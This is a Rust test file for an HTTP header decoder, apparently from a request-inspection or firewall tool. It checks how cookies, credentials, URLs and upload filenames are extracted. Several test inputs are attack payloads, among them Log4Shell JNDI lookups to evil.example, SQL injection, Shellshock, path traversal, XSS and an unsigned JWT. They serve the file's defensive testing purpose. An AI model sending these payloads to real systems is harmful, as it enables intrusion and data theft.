use proptest::prelude::*;

use super::*;
use crate::decode::tests::{Yield, seen};

fn yielded(name: &str, value: &str) -> Vec<Yield> {
    let fields = [(name, value)];
    let (fields, reason) = seen(|seen| decode(&fields.as_slice(), seen));
    assert_eq!(reason, None, "{name}: {value}");
    fields
}

fn values(name: &str, value: &str) -> Vec<String> {
    yielded(name, value).into_iter().map(|(_, _, value)| value).collect()
}

/// As browsers, services and robots send them.
const ORDINARY: &[(&str, &str)] = &[
    (
        "Accept",
        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8,application/signed-exchange;v=b3",
    ),
    ("Accept-Language", "de-CH,de;q=0.9,en;q=0.8,*;q=0.5"),
    ("Accept-Encoding", "gzip, deflate, br, zstd"),
    ("Cache-Control", "max-age=0"),
    ("Connection", "keep-alive"),
    ("Content-Length", "12"),
    ("Content-Type", "multipart/form-data; boundary=----WebKitFormBoundaryq3VZAxJ3L2fTKMdG"),
    ("If-None-Match", "W/\"5f-18a\""),
    ("If-Modified-Since", "Sat, 29 Oct 1994 19:43:31 GMT"),
    ("Sec-CH-UA", "\"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\", \"(Not(A:Brand\";v=\"8\""),
    ("Sec-Fetch-Mode", "navigate"),
    ("Upgrade-Insecure-Requests", "1"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    (
        "User-Agent",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
    ),
    (
        "User-Agent",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Mobile Safari/537.36",
    ),
    ("User-Agent", "Mozilla/5.0 (compatible; Example/2.1; +http://www.example.com/bot.html)"),
    ("Authorization", "Bearer 2YotnFZFEjr1zCsicMWpAA"),
    ("Transfer-Encoding", "chunked"),
];

#[test]
fn fields_as_browsers_write_them_yield_nothing() {
    for (name, value) in ORDINARY {
        assert_eq!(values(name, value), [""; 0], "{name}: {value}");
    }
}

#[test]
fn the_name_of_an_uploaded_file_is_read_from_its_field() {
    let encoded = "attachment; filename*=UTF-8''..%2f..%2fa.php";
    let rows: &[(&str, &[&str])] = &[
        ("attachment; filename=\"a.txt\"", &["a.txt"]),
        (encoded, &["../../a.php", encoded]),
        ("inline", &[]),
    ];
    for (value, expected) in rows {
        assert_eq!(values("Content-Disposition", value), *expected, "{value}");
    }
    assert_eq!(yielded("content-disposition", "inline; filename=a.php")[0].0, Part::FileName);
}

#[test]
fn every_other_field_is_a_value() {
    let rows = [
        ("X-Api-Version", "${jndi:ldap://evil.example/a}"),
        ("X-Forwarded-For", "127.0.0.1' or 1=1--"),
        ("Accept", "../../../../etc/passwd{{"),
        ("Accept-Language", "en' or 1=1--"),
        ("If-Modified-Since", "${jndi:dns://evil.example}"),
        ("Content-Type", "%{(#_='multipart/form-data')}"),
        ("User-Agent", "() { :; }; /bin/id"),
        ("User-Agent", "Mozilla/5.0 (X11) <script>alert(1)</script>"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux) Gecko/1' or 1=1--"),
        ("User-Agent", "Mozilla/5.0 (X11; (select 1)) Gecko/1"),
        ("User-Agent", "Mozilla/5.0 (X11) union select 1,2"),
        ("User-Agent", "curl/8.5.0"),
        ("Referer", "' or 1=1--"),
        ("Authorization", "Basic ' or 1=1--"),
        ("Host", "localhost:8080"),
    ];
    for (name, value) in rows {
        assert_eq!(yielded(name, value), [(Part::Header, name.to_owned(), value.to_owned())]);
    }
}

#[test]
fn an_address_is_read_as_path_and_parameters() {
    let rows: &[(&str, &[&str])] = &[
        ("https://example.org", &[]),
        ("https://example.org/a/b", &["/a/b"]),
        ("https://example.org:8080/a%20b?x=1%27+or&y#z=%3Ca", &["/a b", "x", "1' or", "y", "z", "<a"]),
        ("/a?b=c", &["/a", "b", "c"]),
        ("https://example.org/<a>", &["https://example.org/<a>", "/<a>"]),
        ("https://a'b.example/", &["https://a'b.example/", "/"]),
        ("javascript:alert(1)", &["javascript:alert(1)"]),
    ];
    for (value, expected) in rows {
        assert_eq!(values("Referer", value), *expected, "{value}");
    }
}

#[test]
fn cookies_are_read_one_by_one_and_decoded() {
    let cookie = |name: &str, value: &str| (Part::Cookie, name.to_owned(), value.to_owned());
    let rows: &[(&str, &[Yield])] = &[
        ("a=1; b=x%27y", &[cookie("a", "1"), cookie("b", "x'y")]),
        ("a=\"b c\";;  d", &[cookie("a", "b c"), cookie("", "d")]),
        ("a'b=c=d", &[cookie("", "a'b"), cookie("a'b", "c=d")]),
        ("a=1'+or+1", &[cookie("a", "1'+or+1"), cookie("a", "1' or 1")]),
        ("a=YWI+/w==", &[cookie("a", "YWI+/w==")]),
        ("a=%2527", &[cookie("a", "%27")]),
        ("", &[]),
    ];
    for (value, expected) in rows {
        assert_eq!(yielded("cookie", value), *expected, "{value}");
    }
}

#[test]
fn credentials_are_decoded() {
    let rows: &[(&str, &[&str])] = &[
        ("Basic YWRtaW4nLS06c2VjcmV0", &["admin'--", "secret"]),
        ("basic  YTpiOmM", &["a", "b:c"]),
        ("Basic !!", &["Basic !!"]),
        ("Digest username=\"a'b\", uri=\"/\"", &["a'b\"", "/\""]),
        ("Token token=abc", &[]),
        ("Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.", &["eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0."]),
        ("Whatever <a>", &["Whatever <a>"]),
    ];
    for (value, expected) in rows {
        assert_eq!(values("authorization", value), *expected, "{value}");
    }
}

proptest! {
    #[test]
    fn no_bytes_panic_and_little_is_yielded(
        name in proptest::sample::select(vec!["Cookie", "Referer", "User-Agent", "Authorization", "Accept", "X-A"]),
        start in proptest::sample::select(vec!["", "Mozilla/5.0 (", "https://", "Basic ", "Digest "]),
        value in proptest::collection::vec(any::<u8>(), 0..60),
    ) {
        let value = [start.as_bytes(), &value].concat();
        let fields = [(name, value.as_slice())];
        let (fields, _) = seen(|seen| decode(&fields.as_slice(), seen));
        let bytes: usize = fields.iter().map(|(_, _, value)| value.len()).sum();
        prop_assert!(bytes <= 16 * value.len(), "{bytes} of {}", value.len());
    }
}
